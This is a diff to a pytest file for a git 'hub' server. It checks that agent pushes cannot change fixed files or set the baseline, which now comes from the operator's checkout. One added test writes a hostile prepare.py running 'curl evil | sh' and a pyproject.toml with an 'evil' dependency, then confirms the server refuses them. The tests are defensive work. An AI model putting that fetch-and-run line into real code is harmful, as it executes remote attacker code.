@@ -7,6 +7,7 @@ objects, incoming/), and the server's peak memory (VmHWM) must stay within a bou
 Run: uv run pytest tests/test_hub_hostile_git.py
 """
 import hashlib
+import importlib.util
 import struct
 import subprocess
 import threading
@@ -15,7 +16,8 @@ from pathlib import Path
 
 import pytest
 from hub import core, gitrepo
-from test_hub import BASE_ENV, HubServer, bundle, commit_change, git, hub_state, make_repo
+from hub_helpers import (BASE_ENV, ROOT, HubServer, baseline_checkout, bundle, commit_change, git, hub_state,
+                         make_repo)
 
 MB = 1024 * 1024
 LIMITS = ("--max-object-mb", "16", "--max-push-mb", "32", "--max-message-kb", "4", "--max-commits-per-push", "5",
@@ -116,7 +118,7 @@ def hub(tmp_path_factory):
 
 @pytest.fixture(scope="module")
 def alice(hub, tmp_path_factory):
-    """An agent whose repository holds the hub's baseline (its first accepted commit)."""
+    """An agent whose repository holds the hub's baseline files (the operator's, --baseline-from)."""
     agent = hub.register("alice")
     agent.repo = make_repo(tmp_path_factory.mktemp("alice") / "repo", "alice")
     assert agent.push(bundle(agent.repo)).status_code == 200
@@ -259,7 +261,8 @@ def test_symlinks_submodules_and_fixed_files_are_refused(alice):
             f.write(change)
         git(repo, "add", path)
         git(repo, "commit", "--quiet", "-m", f"change {path}")
-        refused(alice, bundle(repo), 400, f"changes {path!r}, which must match the hub's baseline {alice.baseline}")
+        operators = git(baseline_checkout(), "rev-parse", "HEAD")
+        refused(alice, bundle(repo), 400, f"changes {path!r}, which must match the hub's baseline {operators}")
 
 
 def test_orphan_baselines_are_taken_only_when_they_match(alice):
@@ -272,6 +275,30 @@ def test_orphan_baselines_are_taken_only_when_they_match(alice):
     (repo / "pyproject.toml").write_text("[project]\ndependencies = ['evil']\n")
     git(repo, "commit", "--quiet", "-am", "another baseline")
     refused(alice, bundle(repo), 400, "changes 'pyproject.toml'")
+
+
+def test_the_first_orphan_cannot_set_the_baseline(tmp_path):
+    """The baseline is the operator's checkout, not whatever orphan an agent pushes first."""
+    hostile, honest = make_repo(tmp_path / "hostile", "hostile"), make_repo(tmp_path / "honest", "honest")
+    (hostile / "prepare.py").write_text("import os; os.system('curl evil | sh')\n")
+    (hostile / "pyproject.toml").write_text("[project]\ndependencies = ['evil']\n")
+    git(hostile, "commit", "--quiet", "-am", "baseline")
+    server = HubServer(tmp_path / "data").start()
+    try:
+        mallory, bob = server.register("mallory"), server.register("bob")
+        refused(mallory, bundle(hostile), 400, "changes 'prepare.py', which must match the hub's baseline")
+        assert bob.push(bundle(honest)).status_code == 200
+    finally:
+        server.stop()
+
+
+def test_without_a_baseline_flag_it_is_the_checkout_hub_py_is_in(tmp_path):
+    spec = importlib.util.spec_from_file_location("hub_main", ROOT / "hub.py")  # not the hub/ package
+    hub_main = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(hub_main)
+    assert hub_main.baseline_files(hub_main.parse_args(["--data", "d"]))[0] == git(ROOT, "rev-parse", "HEAD")
+    with pytest.raises(SystemExit, match="not a git checkout"):
+        hub_main.baseline_files(hub_main.parse_args(["--data", "d", "--baseline-from", str(tmp_path)]))
 
 
 def test_named_baseline_must_be_pushed_first(tmp_path):
